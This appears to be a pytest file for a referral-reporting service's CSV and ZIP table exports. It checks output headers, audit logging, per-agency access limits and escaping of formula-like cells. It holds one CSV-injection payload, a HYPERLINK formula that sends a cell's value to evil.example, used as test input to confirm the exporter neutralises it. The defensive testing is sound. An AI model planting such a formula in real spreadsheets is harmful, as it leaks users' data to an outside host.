"""CSV files of report tables: what the page shows, safe to open in Excel, audited."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa

from daservice.audit.actions import AuditAction
from daservice.audit.models import AuditEvent
from daservice.extensions import db
from daservice.reports import csv_export
from daservice.reports.disclosure import KEY, disclose
from daservice.reports.periods import parse
from daservice.reports.sections import BuiltSection, Pack, ReportQuery, get
from daservice.reports.tables import Column, Count, Row, Table

from .. import factories
from . import world
from .world import table_cells

BOM = b"\xef\xbb\xbf"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def _rows(content: bytes) -> list[list[str]]:
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content[len(BOM) :].decode("utf-8"))))


def _table(*labels: str) -> Table:
    return Table(
        key="by-agency",
        title="Referrals by agency",
        row_heading="Agency",
        columns=[Column("Standard", "standard"), Column("High", "high")],
        rows=[Row(label, [Count(7), Count(n)]) for n, label in enumerate(labels, start=2)],
        total_row=True,
        total_column=True,
    )


def test_a_table_is_its_headings_then_its_rows_as_printed():
    shown = disclose(_table("Refuge", "Victim Support"))
    rows = _rows(csv_export.table_csv(shown))
    assert rows[0] == ["Agency", "Standard", "High", "Total"]
    assert rows[1:] == [[row.label, *(cell.text for cell in row.cells)] for row in shown.rows]
    assert ["Refuge", "[c]", "<5", "9"] in rows  # the symbols, as the page prints them


@pytest.mark.parametrize("label", [FORMULA, "+44 20 7946 0000", "-1+2", "@SUM(A1:A2)"])
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(label):
    rows = _rows(csv_export.table_csv(disclose(_table(label, "Refuge"))))
    assert rows[1][0] == "'" + label
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_zip_has_a_file_per_table_and_a_readme(app):
    query = ReportQuery(parse("2026-Q2"))
    shown = disclose(_table("Refuge", "Victim Support"))
    recorded = get("come-forward")
    missing = get("perpetrator-programmes")
    pack = Pack(
        query, (BuiltSection(recorded, True, tables=(shown,)), BuiltSection(missing, False))
    )
    made = datetime(2026, 7, 3, 16, 5, tzinfo=UTC)
    archive = zipfile.ZipFile(io.BytesIO(csv_export.tables_zip(pack, made)))
    assert sorted(archive.namelist()) == ["README.txt", "come-forward/by-agency.csv"]
    assert archive.read("come-forward/by-agency.csv") == csv_export.table_csv(shown)
    readme = archive.read("README.txt").decode("utf-8-sig")
    assert readme.startswith("OFFICIAL-SENSITIVE")
    for words in [
        "Period: April to June 2026 (2026-Q2)",
        "Agency: All agencies",
        "Service: All services",
        "Generated: 5:05pm on 3 July 2026 (UK time)",  # BST
        KEY,
        "come-forward/by-agency.csv: Referrals by agency",
        "Not yet recorded. No perpetrator programme is recorded in daservice",
    ]:
        assert words in readme


# --- The downloads ------------------------------------------------------------------------------


@pytest.fixture()
def partnership(app, directory):
    police = world.agency("MPS")
    odd = factories.agency("ODD", FORMULA)
    world.referrals(police, world.in_q2_2026(), 7)
    world.referrals(odd, world.in_q2_2026(), 5, high=True)
    return {"police": police, "odd": odd}


def _exports() -> list[AuditEvent]:
    db.session.expire_all()
    return list(
        db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == AuditAction.EXPORT_CSV))
    )


def test_a_tables_csv_holds_the_same_texts_as_the_page(client, login_as, partnership):
    login_as(world.manager())
    page = client.get("/reports/?period=2026-Q2").get_data(as_text=True)
    response = client.get("/reports/tables/referrals-by-agency.csv?period=2026-Q2")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="referrals-by-agency-2026-Q2.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    assert response.mimetype == "text/csv"
    rows = _rows(response.data)
    assert rows[0] == ["Agency", "Standard", "Medium", "High", "Total"]
    on_page = table_cells(page, "referrals-by-agency")
    in_file = {row[0].removeprefix("'"): row[1:] for row in rows[1:]}
    assert in_file == on_page
    assert ["'" + FORMULA, "0", "0", "5", "5"] in rows  # the agency's name cannot run


def test_each_download_is_audited_with_its_period_and_no_figures(client, login_as, partnership):
    manager = world.manager()
    login_as(manager)
    client.get("/reports/tables/referrals-by-agency.csv?period=2026-Q2")
    client.get("/reports/tables.zip?period=2026-05")
    events = _exports()
    assert [(e.actor_id, e.target_type, e.target_id, e.purpose) for e in events] == [
        (manager.id, "report", "referrals-by-agency.csv", "Report tables for 2026-Q2"),
        (manager.id, "report", "tables.zip", "Report tables for 2026-05"),
    ]


def test_an_unknown_table_is_a_404_and_writes_nothing(client, login_as, partnership):
    login_as(world.manager())
    assert client.get("/reports/tables/no-such-table.csv?period=2026-Q2").status_code == 404
    assert _exports() == []


def test_the_zip_download_holds_every_table_of_the_page(client, login_as, partnership):
    login_as(world.manager())
    response = client.get("/reports/tables.zip?period=2026-Q2")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="report-tables-2026-Q2.zip"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert "come-forward/referrals-by-agency.csv" in archive.namelist()
    single = client.get("/reports/tables/referrals-by-agency.csv?period=2026-Q2").data
    assert archive.read("come-forward/referrals-by-agency.csv") == single


def test_a_limited_managers_files_hold_her_agency_only(client, login_as, partnership):
    police = partnership["police"]
    login_as(world.manager(police, limited=True))
    rows = _rows(client.get("/reports/tables/referrals-by-agency.csv?period=2026-Q2").data)
    assert [row[0] for row in rows[1:]] == ["Metropolitan Police Service", "Total"]
    archive = zipfile.ZipFile(io.BytesIO(client.get("/reports/tables.zip?period=2026-Q2").data))
    readme = archive.read("README.txt").decode("utf-8-sig")
    assert "Agency: Metropolitan Police Service" in readme
    zipped = _rows(archive.read("come-forward/referrals-by-agency.csv"))
    assert [row[0] for row in zipped[1:]] == ["Metropolitan Police Service", "Total"]
